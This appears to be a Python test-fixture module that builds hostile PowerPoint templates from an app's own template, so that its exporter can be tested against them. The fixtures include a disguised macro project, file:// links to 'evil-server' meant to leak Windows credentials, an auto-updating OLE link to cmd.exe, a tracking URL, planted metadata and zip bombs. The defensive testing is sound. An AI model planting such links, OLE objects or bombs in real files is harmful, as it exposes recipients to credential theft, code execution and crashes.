"""Hostile PowerPoint templates built from our own template's parts (the audit's cases, made for real)."""

from __future__ import annotations

import os
import struct
import zipfile
from pathlib import Path

from nap_desktop.exporters.pptx_exporter import template_path

CT_OVERRIDE = '<Override PartName="/{name}" ContentType="{ct}"/>'
PML = "application/vnd.openxmlformats-officedocument.presentationml"
REL = '<Relationship Id="{rid}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{t}" ' \
      'Target="{target}"{mode}/>'
LAYOUT = "ppt/slideLayouts/slideLayout6.xml"  # Title Only: the layout every content slide uses
LAYOUT_RELS = "ppt/slideLayouts/_rels/slideLayout6.xml.rels"
SECRETS = ("Template Author Secret", "Evil Corp", "Manager Mallory", "CustomSecretValue", "Alice Commenter",
           "customxml-secret", "a comment nobody should see")


def parts() -> dict[str, bytes]:
    with zipfile.ZipFile(template_path()) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


def write(path: Path, parts_: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts_.items():
            z.writestr(name, data)
    return path


def _add_ct(p: dict[str, bytes], name: str, ct: str) -> None:
    p["[Content_Types].xml"] = p["[Content_Types].xml"].replace(
        b"</Types>", CT_OVERRIDE.format(name=name, ct=ct).encode() + b"</Types>")


def _add_rel(p: dict[str, bytes], rels: str, rid: str, t: str, target: str, external: bool = False) -> None:
    mode = ' TargetMode="External"' if external else ""
    p[rels] = p[rels].replace(b"</Relationships>",
                              REL.format(rid=rid, t=t, target=target, mode=mode).encode() + b"</Relationships>")


def _add_shape(p: dict[str, bytes], xml: str) -> None:
    p[LAYOUT] = p[LAYOUT].replace(b"</p:spTree>", xml.encode() + b"</p:spTree>", 1)


def macro_template(path: Path) -> Path:
    """A .pptm renamed .pptx: its presentation is macro-enabled and it carries a VBA project."""
    p = parts()
    p["[Content_Types].xml"] = p["[Content_Types].xml"].replace(
        f"{PML}.presentation.main+xml".encode(), b"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
    p["ppt/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name = \"Module1\"" * 10
    _add_ct(p, "ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    rels = "ppt/_rels/presentation.xml.rels"
    p[rels] = p[rels].replace(b"</Relationships>", b'<Relationship Id="rId900" Type="http://schemas.microsoft.com/'
                              b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    return write(path, p)


def vba_only_template(path: Path) -> Path:
    """A .pptx whose content types look ordinary but that still carries a VBA project part."""
    p = parts()
    p["ppt/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 64
    return write(path, p)


def external_links_template(path: Path) -> Path:
    """Layouts with a file:// share hyperlink (leaks Windows credentials), a linked image and an OLE link."""
    p = parts()
    _add_rel(p, LAYOUT_RELS, "rId90", "hyperlink", "file://evil-server/share/x.docx", external=True)
    _add_rel(p, LAYOUT_RELS, "rId91", "image", "file://evil-server/share/pixel.png", external=True)
    _add_rel(p, LAYOUT_RELS, "rId92", "oleObject", "file:///C:/Windows/System32/cmd.exe", external=True)
    _add_rel(p, LAYOUT_RELS, "rId93", "hyperlink", "https://tracker.example/open", external=True)
    _add_shape(p, '<p:sp><p:nvSpPr><p:cNvPr id="90" name="Linked text"><a:hlinkClick r:id="rId90"/></p:cNvPr>'
                  '<p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:rPr lang="en-US">'
                  '<a:hlinkClick r:id="rId93"/></a:rPr><a:t>Keep this text</a:t></a:r></a:p></p:txBody></p:sp>')
    _add_shape(p, '<p:pic><p:nvPicPr><p:cNvPr id="91" name="Linked picture"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
                  '<p:blipFill><a:blip r:link="rId91"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
                  '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="10" cy="10"/></a:xfrm>'
                  '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>')
    _add_shape(p, '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="92" name="OLE link"/><p:cNvGraphicFramePr/>'
                  '<p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="10" cy="10"/></p:xfrm>'
                  '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
                  '<p:oleObj r:id="rId92" progId="Package"><p:link updateAutomatic="1"/></p:oleObj>'
                  '</a:graphicData></a:graphic></p:graphicFrame>')
    return write(path, p)


def identity_template(path: Path) -> Path:
    """Core, app and custom properties, comment authors, a comment and custom XML that must not carry over."""
    p = parts()
    p["docProps/core.xml"] = p["docProps/core.xml"].replace(
        b"</cp:coreProperties>", b"<dc:creator>Template Author Secret</dc:creator>"
        b"<dc:description>Manager Mallory notes</dc:description></cp:coreProperties>")
    p["docProps/app.xml"] = p["docProps/app.xml"].replace(
        b"</Properties>", b"<Company>Evil Corp</Company><Manager>Manager Mallory</Manager></Properties>")
    p["docProps/custom.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns="http://schemas.openxmlformats'
        b'.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Client">'
        b'<vt:lpwstr>CustomSecretValue</vt:lpwstr></property></Properties>')
    _add_ct(p, "docProps/custom.xml", "application/vnd.openxmlformats-officedocument.custom-properties+xml")
    _add_rel(p, "_rels/.rels", "rId99", "custom-properties", "docProps/custom.xml")
    p["ppt/commentAuthors.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:cmAuthorLst xmlns:p="http://schemas.'
        b'openxmlformats.org/presentationml/2006/main"><p:cmAuthor id="1" name="Alice Commenter" initials="AC" '
        b'lastIdx="1" clrIdx="0"/></p:cmAuthorLst>')
    _add_ct(p, "ppt/commentAuthors.xml", f"{PML}.commentAuthors+xml")
    _add_rel(p, "ppt/_rels/presentation.xml.rels", "rId98", "commentAuthors", "commentAuthors.xml")
    p["ppt/comments/comment1.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:cmLst xmlns:p="http://schemas.openxmlformats'
        b'.org/presentationml/2006/main"><p:cm authorId="1" idx="1"><p:pos x="0" y="0"/>'
        b'<p:text>a comment nobody should see</p:text></p:cm></p:cmLst>')
    _add_ct(p, "ppt/comments/comment1.xml", f"{PML}.comments+xml")
    p["customXml/item1.xml"] = b"<secret>customxml-secret</secret>"
    p["customXml/_rels/item1.xml.rels"] = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.' \
                                          b'openxmlformats.org/package/2006/relationships"/>'
    _add_rel(p, "ppt/_rels/presentation.xml.rels", "rId97", "customXml", "../customXml/item1.xml")
    return write(path, p)


def no_layouts_template(path: Path) -> Path:
    """A master with every layout removed."""
    import re

    p = parts()
    for name in [n for n in p if n.startswith("ppt/slideLayouts/")]:
        del p[name]
    master = "ppt/slideMasters/slideMaster1.xml"
    p[master] = re.sub(rb"<p:sldLayoutIdLst>.*?</p:sldLayoutIdLst>", b"", p[master], flags=re.S)
    rels = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
    p[rels] = re.sub(rb'<Relationship [^>]*slideLayout[^>]*/>', b"", p[rels])
    p["[Content_Types].xml"] = re.sub(rb'<Override PartName="/ppt/slideLayouts/[^>]*/>', b"",
                                      p["[Content_Types].xml"])
    return write(path, p)


def oversized_media_template(path: Path, size: int) -> Path:
    """A layout picture whose image part is ``size`` bytes of noise (it does not compress)."""
    p = parts()
    p["ppt/media/huge.png"] = os.urandom(size)
    _add_ct(p, "ppt/media/huge.png", "image/png")
    _add_rel(p, LAYOUT_RELS, "rId95", "image", "../media/huge.png")
    _add_shape(p, '<p:pic><p:nvPicPr><p:cNvPr id="95" name="Huge picture"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
                  '<p:blipFill><a:blip r:embed="rId95"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
                  '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="10" cy="10"/></a:xfrm>'
                  '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>')
    return write(path, p)


def ratio_bomb_template(path: Path, size: int = 40 * 1024 * 1024) -> Path:
    """A part of ``size`` zero bytes: a few tens of KB in the zip, tens of MB unpacked."""
    p = parts()
    p["ppt/media/zeros.bin"] = bytes(size)
    return write(path, p)


def lying_bomb_template(path: Path, claimed: int = 4_000_000_000) -> Path:
    """The zip directory claims a part unpacks to ``claimed`` bytes (~4 GB); the file itself is tiny.
    Nothing of that size exists or is allocated: only the size fields are patched."""
    p = parts()
    p["ppt/media/bomb.bin"] = b"\x00" * 1000
    write(path, p)
    data = bytearray(path.read_bytes())
    name = b"ppt/media/bomb.bin"
    pos = 0  # scan the central directory entries for our member
    while True:
        pos = data.find(b"PK\x01\x02", pos)
        if pos < 0:
            raise AssertionError("member not found")
        name_len = struct.unpack_from("<H", data, pos + 28)[0]
        if bytes(data[pos + 46:pos + 46 + name_len]) == name:
            struct.pack_into("<I", data, pos + 24, claimed)  # uncompressed size
            local = struct.unpack_from("<I", data, pos + 42)[0]
            struct.pack_into("<I", data, local + 22, claimed)
            break
        pos += 4
    path.write_bytes(bytes(data))
    return path
